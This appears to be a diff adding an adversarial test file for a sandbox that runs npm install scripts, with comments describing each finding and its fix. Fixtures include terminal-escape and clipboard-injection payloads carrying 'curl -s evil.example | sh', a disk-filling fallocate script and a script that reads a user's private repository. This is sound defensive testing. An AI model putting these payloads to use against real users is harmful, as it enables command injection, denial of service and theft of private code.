@@ -1,0 +1,282 @@
+// Adversary pass adv9 against the npm install-script cells (issue 14 item
+// 2: source/script_plan.cc, lifecycle.cc, install_scripts.cc,
+// cell/script_cell.cc, npx_install.cc). Each test is one attack by a package
+// from the registry; a test marked todo is a finding (it fails on main
+// 909957d), the rest ('adv9 held: ...') are attacks that held.
+
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { after, test } from 'node:test';
+
+import { runMcpcell, skipWithoutCell } from './lib/mcpcell.mjs';
+import { scriptsHome, startPackageRegistry } from './lib/npm_registry.mjs';
+import { makeTempDir, removeTempDirs } from './lib/tmp.mjs';
+
+const id = randomBytes(4).toString('hex');
+
+after(removeTempDirs);
+const { install, home } = scriptsHome('e2e-adv9-home');
+
+const ESC = '\x1b';
+const BEL = '\x07';
+
+/** A top package (the server) depending on `deps`. */
+const topPackage = (top, deps) => ({
+  name: top, version: '1.0.0',
+  manifest: { bin: { [top]: 'server.js' }, dependencies: Object.fromEntries(deps.map((d) => [d, '1.0.0'])) },
+  files: { 'server.js': '#!/usr/bin/env node\n' },
+});
+
+// ---- F (MEDIUM): terminal escapes from a package.json reach the terminal ----
+// A NUL byte in a step's script or npm_package_* value makes LifecycleProgram
+// (source/lifecycle.cc) refuse with MakeError("run the <event> script of",
+// step.id, ...), and step.id is the "name@version" of the package's own
+// manifest (the tarball's package.json, which the registry never checks),
+// printed raw by Say(): every other place that names a package passes it
+// through VisibleOnTerminal. A "version" holding OSC 0 (window title), OSC 52
+// (write the user's clipboard: the next paste runs the attacker's command)
+// or CSI 2J (clear the screen, hiding what ran) is obeyed by the user's
+// terminal when that package's cell is about to run. Fix: VisibleOnTerminal(step.id) in that
+// error (and keep every Error built from package text visible).
+test('a package.json version with terminal escapes, made to fail planning with a NUL: the escapes are shown, not obeyed', {
+  timeout: 60_000,
+  todo: 'adv9 finding: lifecycle.cc\'s NUL error prints the manifest\'s name@version raw: OSC 52/CSI escapes from a tarball reach the user\'s terminal',
+}, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-esc-top-${id}`;
+  const a = `e2e-adv9-esc-a-${id}`;
+  // The registry's document says 1.0.0 (npm resolves it); the tarball's
+  // package.json says otherwise: npm does not rewrite it.
+  const clipboard = `${ESC}]52;c;${Buffer.from('curl -s evil.example | sh\n').toString('base64')}${BEL}`;
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0', manifest: {},
+      files: {
+        // Overwrites the generated package.json (same name in the tarball).
+        'package.json': JSON.stringify({
+          name: a,
+          version: `1.0.0${ESC}]0;owned${BEL}${clipboard}${ESC}[2J`,
+          scripts: { install: 'echo hi' },
+          config: { x: 'a\u0000b' },
+        }),
+      },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r } = await install(top, reg);
+  t.diagnostic(JSON.stringify(r.stderr.slice(-600)));
+  assert.notEqual(r.code, 0, 'the NUL is refused (as npm refuses it)');
+  assert.match(r.stderr, /NUL byte/, r.stderr);
+  assert.ok(!r.stderr.includes(ESC), `an ESC byte from the package's manifest reached mcpcell's stderr: ${JSON.stringify(r.stderr.slice(-400))}`);
+  assert.ok(!r.stderr.includes(BEL), 'a BEL (OSC terminator) reached stderr');
+});
+
+// Held: the same escapes in a script's OUTPUT, its banner ("> id event") and
+// its failure tail are shown as text (the cell's output passes the terminal
+// filter).
+test('adv9 held: escapes a script prints, and its manifest\'s in the banner, are shown as text', { timeout: 60_000 }, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-esc2-top-${id}`;
+  const a = `e2e-adv9-esc2-a-${id}`;
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0', manifest: {},
+      files: {
+        'package.json': JSON.stringify({ name: a, version: `1.0.0${ESC}]0;owned${BEL}`, scripts: { install: 'node e.js' } }),
+        'e.js': `process.stdout.write('${'\\x1b'}]52;c;Y3VybAo=${'\\x07'} ${'\\x9b'}2J ${'\\xc2\\x9b'}2J'); process.exit(3);\n`,
+      },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r } = await install(top, reg);
+  assert.notEqual(r.code, 0);
+  assert.match(r.stderr, /exited with status 3/, r.stderr);
+  assert.ok(!r.stderr.includes(ESC) && !r.stderr.includes(BEL) && !r.stderr.includes('\u009b'), JSON.stringify(r.stderr.slice(-500)));
+});
+
+// ---- F (LOW): a failing script's last lines can overwrite mcpcell's own ----
+// The error for a failing script shows its last lines "each on its own
+// indented line" ("    | ...", ScriptOutput::Tail in cell/script_cell.cc)
+// through TerminalFilter, which lets '\r' pass: a line "\rmcpcell: ..."
+// returns to the start of its line on the terminal and overwrites the
+// indent, so the script's text reads as mcpcell's own verdict inside
+// mcpcell's error (e.g. that the failure is harmless, or a command to run).
+// VisibleOnTerminal exists for exactly this (CR as "^M"). Fix: Tail() uses
+// VisibleOnTerminal (or cuts each line at its last '\r').
+test('a failing script\'s last lines cannot return to the start of the line inside mcpcell\'s error', {
+  timeout: 60_000,
+  todo: 'adv9 finding: ScriptOutput::Tail filters with TerminalFilter, which passes \\r: a script\'s line overwrites the "    | " indent and reads as mcpcell\'s own',
+}, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-cr-top-${id}`;
+  const a = `e2e-adv9-cr-a-${id}`;
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0',
+      manifest: { scripts: { install: 'node f.js' } },
+      files: { 'f.js': 'console.log("\\rmcpcell: this failure is expected; retry with --install-scripts=skip or run: curl -s evil.example | sh"); process.exit(1);\n' },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r } = await install(top, reg);
+  assert.notEqual(r.code, 0);
+  const tail = r.stderr.slice(r.stderr.indexOf('Their last lines'));
+  assert.ok(tail.includes('| '), r.stderr);
+  assert.ok(!tail.includes('\r'), `a CR reached the error's tail: ${JSON.stringify(tail.slice(0, 300))}`);
+});
+
+// ---- F (MEDIUM): a script's output is copied without bound -----------------
+// ScriptOutput::Add (cell/script_cell.cc) writes everything a script prints
+// to mcpcell's stderr, for up to --install-timeout (5 min by default). Under
+// an MCP client that stderr is the client's log file (Claude Desktop's
+// mcp-server-*.log, a terminal's scrollback): a script that prints at pipe
+// speed for five minutes writes tens of GiB there, outside the cell's
+// 128 MiB /tmp and 64 MiB HOME. npm itself shows no install-script output
+// unless the script fails (foreground-scripts is off). Fix: cap what is
+// copied per cell (e.g. 1 MiB, then "... N bytes not shown"), keep the tail.
+test('a script that floods its output: mcpcell\'s stderr stays bounded', {
+  timeout: 90_000,
+  todo: 'adv9 finding: script_cell.cc copies all of a script\'s output to stderr (a client\'s log): 32 MiB in, 32 MiB out, unbounded for 5 min',
+}, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-flood-top-${id}`;
+  const a = `e2e-adv9-flood-a-${id}`;
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0',
+      manifest: { scripts: { install: 'node flood.js' } },
+      files: { 'flood.js': 'const b = Buffer.alloc(1 << 20, 0x41); b[b.length - 1] = 10; for (let i = 0; i < 32; i++) require("fs").writeSync(1, b);\n' },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r } = await install(top, reg);
+  assert.equal(r.code, 0, r.stderr.slice(-2000));
+  t.diagnostic(`stderr: ${r.stderr.length} bytes`);
+  assert.ok(r.stderr.length < (4 << 20), `32 MiB of script output became ${r.stderr.length} bytes of mcpcell's stderr`);
+});
+
+// ---- F (MEDIUM): a script fills the host's disk ------------------------------
+// The one writable grant, the package's directory, is a bind of the host's
+// own file system (the npx cache under ~/.cache), with no size limit:
+// RLIMIT_FSIZE is unlimited in the cell and no quota applies, unlike the
+// cell's /tmp (128 MiB tmpfs) and HOME (64 MiB). A script can fallocate the
+// user's disk full (every other program of the user then fails with ENOSPC)
+// and, if it exits 0, the bytes stay in the cache for ever (the install
+// succeeds and publishes them). Fix: bound what a script cell may write
+// (e.g. a size-capped overlay or per-cell tmpfs copied back, or a quota /
+// RLIMIT_FSIZE plus a check of the directory's size after the cell), and
+// say so. The test asks for 2 GiB; a fixed mcpcell refuses it.
+test('a script cannot put gigabytes on the host\'s disk', {
+  timeout: 90_000,
+  todo: 'adv9 finding: the package directory is a host bind with no size limit: a script fallocates 2 GiB (or the disk) and the install publishes it',
+}, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-disk-top-${id}`;
+  const a = `e2e-adv9-disk-a-${id}`;
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0',
+      // fallocate(1): instant, and the blocks are really taken.
+      manifest: { scripts: { install: 'fallocate -l 2G big.bin && echo allocated || echo refused' } },
+      files: { 'index.js': '' },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r, installDir } = await install(top, reg);
+  const big = path.join(installDir, 'node_modules', a, 'big.bin');
+  const tmp = r.stderr.match(/(\/\S+\/\.install-[^/\s]+)\//)?.[1];
+  t.after(() => {
+    rmSync(big, { force: true });
+    if (tmp) rmSync(path.join(tmp, 'node_modules', a, 'big.bin'), { force: true });
+  });
+  t.diagnostic(r.stderr.split('\n').filter((l) => /allocated|refused/.test(l)).join('\n'));
+  assert.ok(!existsSync(big), `the install published a 2 GiB file a script wrote into the host's cache (exit ${r.code})`);
+  assert.doesNotMatch(r.stderr, /^allocated$/m, 'the script could take 2 GiB of the host\'s disk');
+});
+
+// ---- F (HIGH): the host's npm fetches a git dependency with the user's access --
+// `npm install --ignore-scripts` runs on the host, as the user, with the
+// user's git, SSH agent, credential helpers and files. A registry package
+// (any dependency, at any depth) may declare a git dependency: npm clones
+// it on the host and places the clone in the install, where every install
+// script cell (network to the registry: it can publish it under its own
+// token) and the server's code read it. So any package can name a git
+// repository only the USER can read — a private GitHub repo over
+// git+ssh:// (the user's SSH key), a git+https:// one (the credential
+// helper), or a local repository (git+file://) as here — and have the
+// host's npm hand its contents to code that runs in the cells. --ignore-
+// scripts stops the clone's `prepare`, not the clone. Fix: refuse
+// non-registry sources (git, file:, remote tarballs) of dependencies of an
+// npx:// package unless the user asked for them (e.g. run npm with
+// `--git=/bin/false` (npm's `git` setting) and refuse a lockfile entry whose
+// "resolved" is not below a configured registry), or fetch them with no
+// credentials of the user's.
+test('a dependency on a git repository only the user can read is not cloned into the install by the host\'s npm', {
+  timeout: 90_000,
+  todo: 'adv9 finding: npx_install.cc runs the host\'s npm, which clones a dependency\'s git URL with the user\'s access (git+file/ssh/https) into the install, where the script cells and the server read it',
+}, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-git-top-${id}`;
+  const a = `e2e-adv9-git-a-${id}`;
+  // The user's private repository (only the user may read it).
+  const repo = path.join(home(), 'private-repo');
+  mkdirSync(repo, { recursive: true });
+  const secret = `PRIVATE-${id}-${randomBytes(6).toString('hex')}`;
+  writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'private-repo', version: '1.0.0' }));
+  writeFileSync(path.join(repo, 'secret.txt'), secret);
+  const git = (...args) => execFileSync('git', ['-C', repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', ...args], { stdio: 'pipe' });
+  git('init', '-q');
+  git('add', '.');
+  git('commit', '-qm', 'private');
+  chmodSync(repo, 0o700);
+  const reg = await startPackageRegistry([
+    {
+      name: a, version: '1.0.0',
+      manifest: { dependencies: { loot: `git+file://${repo}` }, scripts: { install: 'node steal.js' } },
+      // What a script cell could do with it: read it (then publish it to
+      // the registry with the attacker's own token, or leave it for the server).
+      files: { 'steal.js': 'const fs = require("fs"), p = require("path"); let got = "none"; for (const d of [p.join(__dirname, "node_modules/loot"), p.join(__dirname, "../loot")]) { try { got = fs.readFileSync(p.join(d, "secret.txt"), "utf8"); } catch {} } fs.writeFileSync(p.join(__dirname, "stolen.txt"), got); console.log("stolen: " + got);\n' },
+    },
+    topPackage(top, [a]),
+  ]);
+  t.after(() => reg.close());
+  const { r, installDir } = await install(top, reg);
+  t.diagnostic(r.stderr.split('\n').filter((l) => /stolen|error|mcpcell/.test(l)).slice(-6).join('\n'));
+  assert.ok(r.stderr.includes('running the install scripts') || r.code !== 0, r.stderr);
+  assert.doesNotMatch(r.stderr, new RegExp(`stolen: ${secret}`), 'a script cell read the user\'s private repository, cloned by the host\'s npm');
+  let found = '';
+  try { found = execFileSync('grep', ['-rl', secret, installDir], { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { /* none */ }
+  assert.equal(found, '', `the user's private repository is in the install: ${found}`);
+});
+
+// Held: npm's own rule that --ignore-scripts also stops the `prepare` of a
+// git dependency (which would run on the HOST): nothing of it runs.
+test('adv9 held: a git dependency\'s prepare script does not run on the host', { timeout: 90_000 }, async (t) => {
+  if (await skipWithoutCell(t)) return;
+  const top = `e2e-adv9-gitp-top-${id}`;
+  const repo = makeTempDir('adv9-gitp');
+  const marker = path.join(makeTempDir('adv9-gitp-mark'), 'ran-on-host');
+  writeFileSync(path.join(repo, 'package.json'), JSON.stringify({
+    name: 'gitp', version: '1.0.0',
+    scripts: { prepare: `echo prepare > ${marker}`, preinstall: `echo preinstall >> ${marker}`, postinstall: `echo postinstall >> ${marker}` },
+  }));
+  const git = (...args) => execFileSync('git', ['-C', repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', ...args], { stdio: 'pipe' });
+  git('init', '-q');
+  git('add', '.');
+  git('commit', '-qm', 'x');
+  const reg = await startPackageRegistry([
+    { name: top, version: '1.0.0', manifest: { bin: { [top]: 'server.js' }, dependencies: { gitp: `git+file://${repo}` } }, files: { 'server.js': '#!/usr/bin/env node\n' } },
+  ]);
+  t.after(() => reg.close());
+  const { r } = await install(top, reg);
+  // The clone's pre/postinstall run in a cell (whose /tmp is not the host's), prepare nowhere.
+  assert.ok(!existsSync(marker), `a git dependency's script ran on the host: ${existsSync(marker) ? readFileSync(marker, 'utf8') : ''}\n${r.stderr}`);
+});
